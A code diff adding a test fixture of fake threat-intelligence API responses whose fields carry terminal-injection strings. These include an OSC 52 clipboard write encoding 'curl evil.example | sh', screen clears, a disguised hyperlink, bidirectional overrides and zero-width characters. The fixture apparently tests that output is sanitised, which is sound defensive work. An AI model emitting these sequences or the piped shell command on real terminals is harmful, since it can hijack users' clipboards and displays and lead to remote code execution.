@@ -157,6 +157,74 @@ UNAVAILABLE = Scripted(
     status=503, body={"error": {"type": "Server Error", "code": "503", "message": "Service Unavailable"}}
 )
 
+# Strings that would act on whoever shows them: an OSC 52 clipboard write (base64 of
+# "curl evil.example | sh"), screen and line clears, colours, an OSC 8 hyperlink, carriage
+# returns, 8-bit C1 controls, bidirectional overrides and isolates, zero-width characters.
+CLIPBOARD_WRITE = "\x1b]52;c;Y3VybCBldmlsLmV4YW1wbGUgfCBzaA==\x07"
+CLEAR_SCREEN = "\x1b[2J\x1b[H"
+HOSTILE_DATE = "2026-11-25T13:13:13.000Z"
+HOSTILE = _both(
+    "hostile.example",
+    "domain",
+    "malicious: its words carry terminal escapes, carriage returns and bidi overrides",
+    Scripted(
+        body={
+            "data": "hostile.example",
+            "types": ["domain"],
+            "scores": [
+                {
+                    "date": HOSTILE_DATE,
+                    "score": 0.9,
+                    "level": "\x1b[31mmalicious\x1b[0m",
+                    "details": [
+                        {
+                            "date": HOSTILE_DATE,
+                            "engineId": CLIPBOARD_WRITE + "blocklists",
+                            "level": "malicious\u202e",
+                            "score": 0.9,
+                        },
+                        {
+                            "date": HOSTILE_DATE,
+                            "engineId": "honeypots\r" + CLEAR_SCREEN + "\x9b2J",
+                            "level": "\u2066malicious\u2069",
+                            "score": 0.85,
+                        },
+                    ],
+                }
+            ],
+        }
+    ),
+    Scripted(
+        body={
+            "threatscore": {
+                "value": 0.9,
+                "level": "\x1b[31mmalicious\x1b[0m",
+                "categories": [
+                    "phishing\u202egnp.exe",
+                    CLIPBOARD_WRITE + "malware",
+                    "spam\r\x1b[2Kcleared",
+                    "\u2066isolated\u2069\u200b",
+                ],
+                "indicators": {**NO_FLAGS, "attack": True, "scan\x1b[8m": True},
+            },
+            "observable": {
+                "geo": {"country_name": "Nether\x9b2Jlands", "city_name": "Amster\rdam\u2028"},
+                "as": {
+                    "asn": 64666,
+                    "organization_name": "Evil \x1b]8;;http://evil.example\x07Corp\x1b]8;;\x07",
+                },
+                "first_seen": HOSTILE_DATE,
+                "last_seen": HOSTILE_DATE,
+            },
+            "analysis": [
+                {"id": "blocklists\x1b[1A\x1b[2K", "date": HOSTILE_DATE, "score": 0.9},
+                {"id": CLEAR_SCREEN + "honeypots\ufeff", "date": HOSTILE_DATE, "score": 0.85},
+            ],
+            "tags": ["dns\u202e", "\x07bell", CLIPBOARD_WRITE],
+        }
+    ),
+)
+
 ENTRIES: tuple[Entry, ...] = (
     _known(
         "malicious: a malicious host on a blocklist, attacking",
@@ -388,6 +456,7 @@ ENTRIES: tuple[Entry, ...] = (
             }
         ),
     ),
+    HOSTILE,
 )
 
 BY_VALUE = {entry.value: entry for entry in ENTRIES}
